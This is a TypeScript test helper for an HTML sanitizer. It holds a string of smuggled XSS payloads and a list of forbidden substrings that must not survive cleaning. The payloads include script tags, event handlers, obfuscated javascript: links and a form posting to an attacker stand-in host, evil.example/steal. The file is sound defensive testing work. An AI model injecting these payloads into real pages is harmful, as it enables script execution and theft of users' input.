import { expect } from 'vitest';

/** What an attacker smuggles into editors' HTML (issue 14 item 8). */
export const SMUGGLED =
  '<script>alert("s")</script><img src="x" onerror="alert(\'e\')">' +
  '<a href="javascript:alert(\'j\')">j</a><a href="JaVaScRiPt&colon;alert(1)">k</a>' +
  '<style>body{display:none}</style><base href="https://evil.example/">' +
  '<form action="https://evil.example/steal"><input name="p"><button>Wyślij</button></form>' +
  '<p onclick="alert(1)" style="position:fixed">x</p><svg onload="alert(1)"></svg>' +
  '<object data="x.swf"></object>';

/** None of the smuggled pieces survives. */
export function expectHarmless(clean: string): void {
  for (const piece of [
    '<script',
    'alert',
    'onerror',
    'onclick',
    'onload',
    'javascript',
    '<style',
    'display:none',
    '<base',
    '<form',
    '<input',
    '<button',
    'evil.example',
    '<img',
    '<svg',
    '<iframe',
    '<object',
    'style=',
  ]) {
    expect(clean.toLowerCase()).not.toContain(piece.toLowerCase());
  }
}
